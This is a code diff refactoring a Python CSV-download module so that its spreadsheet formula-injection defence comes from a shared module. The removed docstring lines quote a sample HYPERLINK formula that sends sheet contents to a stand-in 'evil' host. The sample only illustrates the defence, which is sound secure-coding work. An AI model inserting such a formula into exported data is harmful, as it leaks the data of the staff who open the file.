@@ -1,12 +1,10 @@
 """CSV downloads of the data behind a chart or a table, safe to open in a spreadsheet.
 
-**Formula injection.** Excel, LibreOffice and Google Sheets run a cell that begins with ``=``,
-``+``, ``-`` or ``@`` as a formula (and some also after a leading tab or carriage return), so an
-agent name like ``=HYPERLINK("http://evil/?"&A1)`` would leak a sheet when staff open an
-export. Every *text* cell that begins with one of those characters gets a leading apostrophe,
-which spreadsheets show as text and hide (OWASP's advice). Numbers (``int``, ``Decimal``) are
-written as they are: they cannot be formulas, and ``-12.50`` must stay a number to be summed.
-So callers pass amounts as numbers, not as preformatted text.
+**Formula injection.** Every cell goes through the one rule of ``cardsvc.csv_safe`` (the same
+as exports, batch reports and statements): a text cell that a spreadsheet would run as a formula
+(leading ``=``, ``+``, ``-``, ``@``, tab or CR), or that begins with an apostrophe, gets a leading
+apostrophe; numbers (``int``, ``Decimal``) are written as they are, so callers pass amounts as
+numbers, not as preformatted text.
 
 **Encoding.** UTF-8 with a byte-order mark, so Excel on Windows opens Chinese text correctly
 instead of guessing a legacy code page; other tools ignore the mark. Lines end in CRLF
@@ -24,30 +22,16 @@ from urllib.parse import quote
 
 from starlette.responses import Response
 
+from cardsvc.csv_safe import FORMULA_PREFIXES, Cell, cell, neutralise
 from web.charts import BarSeries, Series
 
-FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+__all__ = ["CSV_ROWS_MAX", "FORMULA_PREFIXES", "Cell", "bar_rows", "csv_response", "csv_text",
+           "neutralise", "series_rows"]
+
 CSV_ROWS_MAX = 100_000
 """Downloads here are built in memory (a chart's or a page's data, a few thousand rows); bulk
 exports of codes are jobs of the domain with their own streaming writer."""
-Cell = str | int | Decimal | None
 _UNSAFE_NAME = re.compile(r"[^A-Za-z0-9._-]+")
-
-
-def neutralise(text: str) -> str:
-    """``text`` with a leading apostrophe when a spreadsheet would run it as a formula."""
-    return "'" + text if text.startswith(FORMULA_PREFIXES) else text
-
-
-def csv_cell(value: Cell) -> str:
-    """One cell's text: numbers as they are, None as empty, text neutralised."""
-    if value is None:
-        return ""
-    if isinstance(value, bool):
-        raise ValueError("booleans are not CSV cells; say what they mean in text")
-    if isinstance(value, int | Decimal):
-        return str(value)
-    return neutralise(value)
 
 
 def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
@@ -56,11 +40,11 @@ def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
     buffer = io.StringIO()
     buffer.write("\ufeff")
     writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerow([csv_cell(name) for name in header])
+    writer.writerow([cell(name) for name in header])
     for count, row in enumerate(rows, start=1):
         if count > CSV_ROWS_MAX:
             raise ValueError(f"a CSV download has at most {CSV_ROWS_MAX} rows")
-        writer.writerow([csv_cell(value) for value in row])
+        writer.writerow([cell(value) for value in row])
     return buffer.getvalue()
 
 
